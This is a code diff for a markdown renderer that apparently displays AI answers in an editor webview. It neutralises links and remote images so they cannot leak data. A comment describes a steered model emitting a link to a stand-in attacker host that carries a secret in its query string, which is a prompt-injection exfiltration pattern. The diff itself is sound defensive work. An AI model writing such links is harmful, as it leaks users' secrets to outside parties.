@@ -10,13 +10,77 @@ const PURIFY_CONFIG = { FORBID_TAGS: ['style', 'form', 'input', 'button', 'texta
 
 /** Renders complete markdown to sanitized HTML. */
 export function renderMarkdownHtml(markdown: string): string {
-  return DOMPurify.sanitize(Parser.parse(Lexer.lex(markdown, { gfm: true }), { gfm: true }), PURIFY_CONFIG);
+  const template = document.createElement('template');
+  template.content.append(tokensToFragment(Lexer.lex(markdown, { gfm: true })));
+  return template.innerHTML;
 }
 
 /** Sanitized DOM straight from DOMPurify: parsing the HTML once, not again through innerHTML. */
 function tokensToFragment(tokens: Token[]): DocumentFragment {
   const list = Object.assign(tokens, { links: {} }) as TokensList;
-  return DOMPurify.sanitize(Parser.parse(list, { gfm: true }), { ...PURIFY_CONFIG, RETURN_DOM_FRAGMENT: true });
+  return defuseLinks(DOMPurify.sanitize(Parser.parse(list, { gfm: true }), { ...PURIFY_CONFIG, RETURN_DOM_FRAGMENT: true }));
+}
+
+/** The schemes a click may open, and only through the host (vscode.env.openExternal, which asks the user). */
+const OPENABLE = new Set(['http:', 'https:', 'mailto:']);
+
+/** The URL a rendered link opens, or undefined for a link that is only text. Read by the click handler. */
+export function linkTarget(element: Element): string | undefined {
+  return element.closest<HTMLElement>('a[data-href]')?.dataset.href;
+}
+
+/**
+ * An answer is untrusted: a steered model can write `[docs](https://attacker.example/?q=SECRET)`. So no link keeps
+ * an `href` (a click makes the webview fetch nothing and navigate nowhere), http(s) and mailto keep their target in
+ * `data-href` for the host to open, other schemes become their text, and an image that is not inline data shows its
+ * alt text and URL as text (the CSP would block it anyway).
+ */
+function defuseLinks(fragment: DocumentFragment): DocumentFragment {
+  for (const link of Array.from(fragment.querySelectorAll('a'))) {
+    const href = link.getAttribute('href') ?? '';
+    link.removeAttribute('href');
+    link.removeAttribute('target');
+    const url = parseUrl(href);
+    if (!url || !OPENABLE.has(url.protocol)) {
+      link.replaceWith(...Array.from(link.childNodes));
+      continue;
+    }
+    link.dataset.href = url.href;
+    link.title = url.href;
+    link.setAttribute('role', 'link');
+    link.tabIndex = 0;
+  }
+  for (const image of Array.from(fragment.querySelectorAll('img'))) {
+    const src = image.getAttribute('src') ?? '';
+    if (/^data:image\//i.test(src)) continue;
+    const text = document.createElement('span');
+    text.className = 'blocked-image';
+    text.textContent = `[image: ${image.getAttribute('alt') || 'no description'}] ${src}`;
+    image.replaceWith(text);
+  }
+  return fragment;
+}
+
+/** Clicks (and Enter) on links in `container` go to `open`, never to the webview's own navigation. */
+export function listenForLinks(container: HTMLElement, open: (url: string) => void): void {
+  const follow = (event: Event) => {
+    if (!(event.target instanceof HTMLElement) || !event.target.closest('a')) return;
+    event.preventDefault();
+    const url = linkTarget(event.target);
+    if (url) open(url);
+  };
+  container.addEventListener('click', follow);
+  container.addEventListener('keydown', event => {
+    if (event.key === 'Enter') follow(event);
+  });
+}
+
+function parseUrl(href: string): URL | undefined {
+  try {
+    return href.trim() ? new URL(href.trim()) : undefined;
+  } catch {
+    return undefined;
+  }
 }
 
 /** Called for every block element once it is in the DOM (code block actions, highlighting). */
